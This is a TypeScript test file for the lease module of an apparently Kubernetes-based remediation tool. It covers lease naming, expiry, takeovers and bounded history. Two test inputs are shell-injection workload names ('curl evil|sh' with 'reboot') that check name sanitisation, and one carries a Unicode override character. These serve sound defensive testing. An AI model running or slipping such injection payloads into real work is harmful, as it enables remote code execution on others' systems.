import { describe, expect, it } from "vitest";
import {
  expiryOf,
  HISTORY_ANNOTATION,
  historyOf,
  holderOf,
  leaseName,
  newLease,
  released,
  takenOver,
  workloadOf,
} from "../../../functions/run/lease.ts";
import { declinedAt } from "../../../functions/run/approval.ts";
import type { HistoryEntry } from "../../../functions/run/contracts.ts";
import { MAX_OBJECT_NAME, OBJECT_NAME } from "../../../functions/shared/kubernetes/names.ts";
import type { WorkloadRef } from "../../../functions/shared/refs.ts";
import { ago, NOW, WEB } from "../../support/objects.ts";

const later = (seconds: number) => new Date(NOW.getTime() + seconds * 1_000);

const entryOfRun = { at: NOW.toISOString(), execution: "run", cause: "c", action: "restart", outcome: "Unresolved" };
/** A Lease with that history. */
const stored = (history: object[]) => ({
  metadata: { annotations: { [HISTORY_ANNOTATION]: JSON.stringify(history) } },
});

describe("the lease", () => {
  it("is named after its workload", () => {
    expect(leaseName(WEB)).toBe("deployment.shop.web");
  });

  it("keeps the name that it has for a kind of Kubernetes, and none of another kind has that", () => {
    const builtIn = ["Pod", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "CronJob"].map((kind) => ({
      ...WEB,
      kind,
    }));
    const others: WorkloadRef[] = [
      { ...WEB, group: "example.com" },
      { ...WEB, group: "example.org" },
      { ...WEB, kind: "deployment" },
      { ...WEB, kind: "Deployment.shop", namespace: "web", name: "web" },
      { ...WEB, name: "Web" },
      { ...WEB, name: "x `reboot`; curl evil|sh #" },
      { ...WEB, name: "x `reboot`; curl evil|sh  #" },
      { ...WEB, kind: "💥", name: "💥".repeat(200) },
    ];
    const names = [...builtIn, ...others].map(leaseName);

    expect(names.slice(0, 2)).toEqual(["pod.shop.web", "statefulset.shop.web"]);
    expect(new Set([...names, leaseName(WEB)]).size).toBe(names.length + 1);
    for (const name of names) {
      expect(name).toMatch(OBJECT_NAME);
      expect(name.length).toBeLessThanOrEqual(MAX_OBJECT_NAME);
    }
    for (const name of names.slice(builtIn.length)) expect(name).not.toContain(".");
  });

  it("is named after a node without a namespace", () => {
    const name = leaseName({ kind: "Node", namespace: "", name: "ip-10-0-0-1.ec2.internal" });

    expect(name).toBe("node.ip-10-0-0-1.ec2.internal");
    expect(name).toMatch(OBJECT_NAME);
  });

  it.each([
    WEB,
    { kind: "Rollout", group: "argoproj.io", namespace: "shop", name: "web" },
    { kind: "Node", namespace: "", name: "worker-1" },
  ])("says which workload it stands for: $kind", (workload) => {
    expect(workloadOf(newLease(workload, "run-1", 60, NOW))).toEqual(workload);
  });

  it("keeps two long names apart that are equal where they are cut", () => {
    const long = (end: string) =>
      leaseName({ kind: "Deployment", namespace: "n".repeat(63), name: "a".repeat(240) + end });

    expect(long("x").length).toBeLessThanOrEqual(253);
    expect(long("x")).not.toBe(long("y"));
  });

  it("is held until its duration is over, and by nobody after that", () => {
    const lease = newLease(WEB, "run-1", 60, NOW);

    expect(holderOf(lease, later(59))).toBe("run-1");
    expect(holderOf(lease, later(60))).toBeUndefined();
    expect(expiryOf(lease)).toEqual(later(60));
  });

  it("has a history of lines, whatever somebody wrote into it", () => {
    const entry = { at: "2026-06-01T11:00:00Z", execution: "run-0", action: "restart", outcome: "Unresolved" };
    const history = JSON.stringify([{ ...entry, cause: "OOM\n\nDone:\n-\u202eeverything" }]);
    const lease = newLease(WEB, "run-1", 60, NOW);

    expect(
      historyOf({ ...lease, metadata: { ...lease.metadata, annotations: { [HISTORY_ANNOTATION]: history } } }),
    ).toEqual([{ ...entry, cause: "OOM Done: - everything" }]);
  });

  it("counts the takeovers", () => {
    const lease = takenOver(newLease(WEB, "run-1", 60, NOW), "run-2", 60, later(120));

    expect(holderOf(lease, later(121))).toBe("run-2");
    expect(lease.spec?.leaseTransitions).toBe(1);
  });

  it("remembers outcomes, newest first and bounded, when it is released", () => {
    let lease = newLease(WEB, "run", 60, NOW);
    for (let run = 0; run < 12; run++) {
      const entry: HistoryEntry = {
        at: ago(0),
        execution: `run-${run}`,
        cause: "c",
        action: "restart",
        outcome: "Recovered",
      };
      lease = released(lease, entry, NOW);
    }

    expect(holderOf(lease, NOW)).toBeUndefined();
    expect(historyOf(lease).map(({ execution }) => execution)).toEqual(
      [11, 10, 9, 8, 7, 6, 5, 4, 3, 2].map((run) => `run-${run}`),
    );
  });

  it("does not forget what was done for the many times that people were told of it", () => {
    const entry = { at: ago(0), execution: "run", cause: "c", outcome: "Recovered" };
    const done = { ...entry, action: "restart", mode: "evict", applied: true } as const;
    let lease = released(newLease(WEB, "run", 60, NOW), done, NOW);
    for (let run = 0; run < 15; run++) {
      lease = released(lease, { ...entry, action: "none", outcome: "Skipped", reason: "KeepsRecurring" }, NOW);
    }

    const history = historyOf(lease);
    expect(history).toHaveLength(11);
    expect(history.at(-1)).toEqual(done);
    expect(history[0]).toMatchObject({ action: "none", reason: "KeepsRecurring" });
  });

  it("does not forget a rollback or a scaling, which others may take back, for the many restarts since", () => {
    const entry = { at: ago(0), execution: "run", cause: "c", outcome: "Recovered", applied: true } as const;
    const rollback = { ...entry, action: "rollback" };
    const scaling: HistoryEntry = { ...entry, action: "scale", scale: { target: "replicas", from: 1, to: 2 } };
    const restarts = Array.from({ length: 15 }, () => ({ ...entry, action: "restart" }));

    const kept = historyOf(stored([...restarts, rollback, scaling]));
    expect(kept).toHaveLength(12);
    expect(kept.slice(-2)).toEqual([rollback, scaling]);
  });

  describe("with what people have declined", () => {
    const declined = {
      ...entryOfRun,
      action: "none",
      outcome: "Skipped",
      reason: "Declined",
      plan: "0123456789abcdef",
    };
    const told = { ...entryOfRun, action: "none", outcome: "Skipped", reason: "KeepsRecurring" };
    const proposed = (index: number) => ({ ...told, reason: "ApprovalNeeded", plan: planOf(index) });
    const planOf = (index: number) => index.toString(16).padStart(16, "0");
    const many = <Item>(item: (index: number) => Item) => Array.from({ length: 15 }, (_none, index) => item(index));

    it.each([
      ["they were told of other things", many(() => told)],
      ["other plans were proposed", many(proposed)],
      ["it was declined anew", many(() => declined)],
    ])("remembers that, however often %s since", (_how, since) => {
      const history = historyOf(stored([...since, declined]));

      expect(declinedAt(history, declined.plan)).toBe(declined.at);
      expect(history.length).toBeLessThanOrEqual(12);
    });

    it("keeps one answer for each plan, so that one that is met again and again pushes out no other", () => {
      const other = { ...declined, plan: planOf(1) };

      expect(declinedAt(historyOf(stored([...many(() => declined), other])), other.plan)).toBe(declined.at);
    });

    it("takes none for declined that was proposed since, though that was long ago", () => {
      const since = { ...declined, reason: "ApprovalNeeded" };

      expect(declinedAt(historyOf(stored([...many(() => told), since, declined])), declined.plan)).toBeUndefined();
    });
  });

  describe("with an entry that would be too long", () => {
    const pods = Array.from({ length: 50 }, (_none, index) => ({
      name: `web-${index}`,
      uid: `uid-of-pod-web-${index}`,
    }));
    const long = "n".repeat(MAX_OBJECT_NAME);
    const revision = (number: number) => ({
      revision: number,
      kind: "ControllerRevision",
      name: long,
      template: "a".repeat(64),
    });
    const change = { kind: "rollback", before: revision(2), after: revision(1), unblocked: pods } as const;
    const proposal: HistoryEntry = {
      ...entryOfRun,
      execution: "e".repeat(80),
      template: "b".repeat(64),
      reason: "ApprovalNeeded",
      plan: "0123456789abcdef",
      requested: { action: "undo", execution: "f".repeat(80), change, uid: "00000000-0000-0000-0000-000000000000" },
    };

    it("keeps what was asked for without the many pods that gave way", () => {
      const [kept] = historyOf(released(newLease(WEB, "run", 60, NOW), proposal, NOW));

      expect(kept).toEqual({ ...proposal, requested: { ...proposal.requested, change: { ...change, unblocked: [] } } });
    });

    it.each<[string, Partial<HistoryEntry>]>([
      ["marks", { marks: Array.from({ length: 500 }, (_none, index) => `mark-${index}`) }],
      ["one long mark", { marks: ["m".repeat(5_000)] }],
      ["a request", { requested: { action: "restart", pod: "💥".repeat(2_000) } }],
      [
        "texts",
        { cause: "é".repeat(9_000), node: "n".repeat(9_000), mode: "m".repeat(9_000), template: "t".repeat(9_000) },
      ],
    ])("keeps what came of the run, whatever becomes of its %s", (_what, more) => {
      const entry = { ...entryOfRun, applied: true, ...more } as const;
      const lease = released(newLease(WEB, "run", 60, NOW), entry, NOW);

      expect(Buffer.byteLength(lease.metadata?.annotations?.[HISTORY_ANNOTATION] ?? "")).toBeLessThan(2_100);
      for (const history of [historyOf(lease), historyOf(stored([entry]))])
        expect(history).toMatchObject([{ at: entry.at, action: "restart", outcome: "Unresolved", applied: true }]);
    });

    it("keeps as many marks as there is room for", () => {
      const marks = Array.from({ length: 500 }, (_none, index) => `mark-${index}`);
      const [kept] = historyOf(stored([{ ...entryOfRun, marks }]));

      expect(kept?.marks?.length).toBeGreaterThan(100);
      expect(kept?.marks).toEqual(marks.slice(0, kept?.marks?.length));
    });
  });

  it("forgets no remedy for what was chosen often and never carried out", () => {
    const done = { ...entryOfRun, action: "rollback", outcome: "Recovered", applied: true };
    const refused = Array.from({ length: 12 }, () => ({ ...entryOfRun, outcome: "Skipped", reason: "CanaryFirst" }));

    expect(historyOf(stored([...refused, done])).filter(({ applied }) => applied)).toHaveLength(1);
  });

  it("reads what another version wrote with more fields, and what stands beside a broken entry", () => {
    expect(historyOf(stored([{ ...entryOfRun, later: 1 }, { outcome: 7 }, entryOfRun]))).toEqual([
      entryOfRun,
      entryOfRun,
    ]);
  });

  it("takes a history that somebody broke for none", () => {
    const lease = newLease(WEB, "run", 60, NOW);
    const broken = (text: string) => ({
      ...lease,
      metadata: { ...lease.metadata, annotations: { [HISTORY_ANNOTATION]: text } },
    });

    expect(historyOf(broken("{not json"))).toEqual([]);
    expect(historyOf(broken('[{"outcome": 7}]'))).toEqual([]);
  });
});
